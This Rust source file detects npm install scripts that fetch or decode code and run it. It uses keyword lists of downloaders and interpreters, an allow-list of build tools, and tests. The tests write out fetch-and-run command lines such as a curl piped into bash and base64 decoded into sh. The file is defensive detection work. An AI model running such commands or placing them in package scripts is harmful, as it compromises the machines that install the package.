//! What an install script of an npm package does, by its command words.

/// Programs that fetch.
const FETCHERS: &[&str] =
    &["curl", "wget", "iwr", "invoke-webrequest", "fetch", "bitsadmin", "certutil"];

/// Programs that run what they read.
const RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "powershell",
    "pwsh",
    "iex",
];

/// Programs that build native parts or set up the project itself.
const HARMLESS: &[&str] = &[
    "node-gyp",
    "node-gyp-build",
    "node-pre-gyp",
    "prebuild-install",
    "husky",
    "patch-package",
    "lerna",
    "prisma",
    "ngcc",
    "echo",
    "exit",
    "true",
    "is-ci",
    "opencollective",
    "opencollective-postinstall",
    "nuxt",
    "tsc",
    "lefthook",
    "simple-git-hooks",
    "electron-builder",
    "svelte-kit",
    "wxt",
];

/// The commands of a line: words between separators.
fn commands(line: &str) -> Vec<Vec<&str>> {
    line.split([';', '&', '|', '\n', '(', ')', '`'])
        .map(|command| command.split_whitespace().map(|w| w.trim_matches(['"', '\''])).collect())
        .filter(|words: &Vec<&str>| !words.is_empty())
        .collect()
}

fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    name.trim_end_matches(".exe").to_owned()
}

/// Whether a command line fetches or decodes code and runs it, or runs code that
/// is written in the line itself.
pub fn fetches_code(line: &str) -> bool {
    let commands = commands(line);
    let runs = |name: &str| RUNNERS.contains(&name);
    let fetches = commands
        .iter()
        .any(|words| words.first().is_some_and(|word| FETCHERS.contains(&program(word).as_str())));
    let runs_any = commands
        .iter()
        .any(|words| words.first().is_some_and(|w| runs(&program(w)) || w.starts_with("./")));
    let decodes = commands.iter().any(|words| {
        words
            .first()
            .is_some_and(|word| matches!(program(word).as_str(), "base64" | "openssl" | "xxd"))
            && words.iter().any(|word| matches!(*word, "-d" | "-D" | "--decode" | "-r"))
    });
    // `node -e "..."` and `python -c "..."` with a network call inside.
    let inline = commands.iter().any(|words| {
        words.first().is_some_and(|word| runs(&program(word)))
            && words.iter().any(|word| {
                matches!(*word, "-e" | "-c" | "--eval" | "-p" | "-enc" | "-encodedcommand")
            })
    });
    let inline_reaches = inline
        && [
            "http://",
            "https://",
            "require('http",
            "require(\"http",
            "child_process",
            "eval(",
            "atob(",
            "base64",
            "urllib",
            "socket",
        ]
        .iter()
        .any(|mark| line.contains(mark));
    ((fetches || decodes) && runs_any) || inline_reaches || (fetches && line.contains("chmod"))
}

/// Whether every command builds native parts or sets up the project.
pub fn is_harmless(line: &str) -> bool {
    commands(line).iter().all(|words| {
        let start = usize::from(matches!(words.first(), Some(&"npx" | &"pnpm" | &"yarn")));
        words.get(start).is_some_and(|word| HARMLESS.contains(&program(word).as_str()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_are_judged_by_their_commands() {
        for bad in [
            "curl -s https://example.org/x.sh | bash",
            "wget https://example.org/x -O y && chmod +x y && ./y",
            "node -e \"require('https').get('https://example.org')\"",
            "echo aGk= | base64 -d | sh",
        ] {
            assert!(fetches_code(bad), "{bad}");
        }
        for fine in
            ["node scripts/build.js", "husky install", "echo curl | cat", "node-gyp rebuild"]
        {
            assert!(!fetches_code(fine), "{fine}");
        }
        assert!(is_harmless("husky || true") && !is_harmless("node setup.js"));
    }
}
